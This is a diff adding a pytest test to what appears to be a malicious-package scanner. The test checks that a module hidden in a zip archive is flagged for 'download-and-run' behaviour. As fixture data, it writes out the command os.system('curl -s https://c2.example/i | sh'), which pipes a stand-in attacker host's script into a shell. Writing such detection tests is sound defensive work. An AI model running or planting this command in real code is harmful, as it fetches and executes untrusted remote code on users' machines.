@@ -51,3 +51,20 @@ def test_an_archive_that_is_unpacked_and_run_is_run_at_installation(script: str,
     found = settled(take(entries, sides.recipe(code=True), readers.ALL), project=False)
     told = [one for one in found if isinstance(one, Capability) and one.name == "exfiltration"]
     assert [one.phase for one in told] == [phase]
+
+
+@pytest.mark.parametrize(
+    ("line", "phase"), [("sys.path.insert(0, PARTS)", "import"), ("print(PARTS)", "call")]
+)
+def test_modules_of_an_archive_run_when_it_is_loaded_from(line: str, phase: str) -> None:
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w") as archive:
+        archive.writestr("m.py", "import os\nos.system('curl -s https://c2.example/i | sh')\n")
+    text = f"import os, sys\nPARTS = os.path.join(os.path.dirname(__file__), 'parts.zip')\n{line}\nimport m\n"
+    entries = [
+        Entry(path="left/__init__.py", read=lambda: iter([text.encode()])),
+        Entry(path="left/parts.zip", read=lambda: iter([held.getvalue()])),
+    ]
+    found = settled(take(entries, sides.recipe(code=True), readers.ALL), project=False)
+    told = [one for one in found if isinstance(one, Capability) and one.name == "download-and-run"]
+    assert [one.phase for one in told] == [phase]
